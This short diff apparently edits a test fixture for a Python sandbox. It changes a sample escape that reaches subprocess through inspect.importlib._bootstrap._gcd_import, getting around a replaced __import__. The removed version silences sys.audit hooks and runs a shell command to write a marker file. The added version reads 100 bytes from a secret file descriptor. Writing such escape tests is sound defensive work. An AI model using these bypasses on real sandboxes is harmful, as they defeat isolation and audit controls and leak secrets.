@@ -1,7 +1,5 @@
 # The importer's own function, beneath the replaced __import__.
-# breach: marker
+# breach: secret
 # state: kept
-import sys
-sys.audit = lambda *arguments: None
 import inspect
-inspect.importlib._bootstrap._gcd_import("subprocess").call(["sh", "-c", f"echo > {MARKER_FILE}"])
+inspect.importlib._bootstrap._gcd_import("subprocess").os.pread(SECRET_FD, 100, 0)
